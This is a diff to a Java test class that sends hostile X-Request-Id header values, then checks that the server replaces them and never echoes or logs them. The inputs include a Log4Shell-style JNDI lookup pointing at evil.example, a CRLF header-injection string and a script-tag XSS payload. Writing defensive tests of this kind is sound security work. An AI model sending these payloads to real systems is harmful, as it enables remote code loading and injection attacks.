@@ -64,7 +64,7 @@ class RequestIdHostileTests {
 	void percentEncodedCrLfInIdIsReplaced(CapturedOutput output) {
 		Http.Response response = this.http.get(MISSING, "X-Request-Id", "abc%0d%0aInjected: yes");
 		assertFreshId(response, 404, "not_found");
-		assertThat(response.body()).doesNotContain("abc", "Injected");
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("abc", "Injected");
 		assertThat(output.getOut()).doesNotContain("%0d%0aInjected");
 	}
 
@@ -72,7 +72,7 @@ class RequestIdHostileTests {
 	void idOf300CharactersIsReplaced() {
 		Http.Response response = this.http.get(MISSING, "X-Request-Id", "a".repeat(300));
 		assertFreshId(response, 404, "not_found");
-		assertThat(response.body()).doesNotContain("a".repeat(129));
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("a".repeat(129));
 	}
 
 	@Test
@@ -92,7 +92,7 @@ class RequestIdHostileTests {
 	void idOf5000CharactersIsReplaced() {
 		Http.Response response = this.http.get(MISSING, "X-Request-Id", "d".repeat(5_000));
 		assertFreshId(response, 404, "not_found");
-		assertThat(response.body()).doesNotContain("dddd");
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("dddd");
 	}
 
 	@Test
@@ -100,7 +100,7 @@ class RequestIdHostileTests {
 		Http.Response response = this.raw.get(MISSING,
 				"X-Request-Id: caf\u00e9-\u00fcber".getBytes(StandardCharsets.UTF_8));
 		assertFreshId(response, 404, "not_found");
-		assertThat(response.body()).doesNotContain("caf");
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("caf");
 	}
 
 	@Test
@@ -112,7 +112,7 @@ class RequestIdHostileTests {
 		}
 		else {
 			assertFreshId(response, 404, "not_found");
-			assertThat(response.body()).doesNotContain("cd\"");
+			assertThat(response.bodyWithoutRequestId()).doesNotContain("cd\"");
 		}
 	}
 
@@ -120,29 +120,29 @@ class RequestIdHostileTests {
 	void jndiLookupIdIsReplacedAndNeverLogged(CapturedOutput output) {
 		Http.Response response = this.http.get("/private/me", "X-Request-Id", "${jndi:ldap://evil.example/a}");
 		assertFreshId(response, 401, "authentication_required");
-		assertThat(response.body()).doesNotContain("jndi");
-		assertThat(output.getOut()).doesNotContain("jndi").contains(response.header("X-Request-Id"));
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("jndi");
+		assertThat(output.getOut()).doesNotContain("jndi:").contains(response.header("X-Request-Id"));
 	}
 
 	@Test
 	void htmlAndScriptIdIsReplaced() {
 		Http.Response response = this.http.get(MISSING, "X-Request-Id", "<script>alert(1)</script>");
 		assertFreshId(response, 404, "not_found");
-		assertThat(response.body()).doesNotContain("script", "<", ">");
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("script", "<", ">");
 	}
 
 	@Test
 	void quotedIdIsReplaced() {
 		Http.Response response = this.http.get(MISSING, "X-Request-Id", "\"abc\",'def'");
 		assertFreshId(response, 404, "not_found");
-		assertThat(response.body()).doesNotContain("abc", "def");
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("abc", "def");
 	}
 
 	@Test
 	void commaSeparatedIdIsReplaced() {
 		Http.Response response = this.http.get(MISSING, "X-Request-Id", "first,second");
 		assertFreshId(response, 404, "not_found");
-		assertThat(response.body()).doesNotContain("first", "second");
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("first", "second");
 	}
 
 	@Test
@@ -150,7 +150,7 @@ class RequestIdHostileTests {
 		Http.Response response = this.raw.get(MISSING, RawHttp.ascii("X-Request-Id: first-id"),
 				RawHttp.ascii("X-Request-Id: second-id"));
 		assertFreshId(response, 404, "not_found");
-		assertThat(response.body()).doesNotContain("first-id", "second-id");
+		assertThat(response.bodyWithoutRequestId()).doesNotContain("first-id", "second-id");
 	}
 
 	@Test
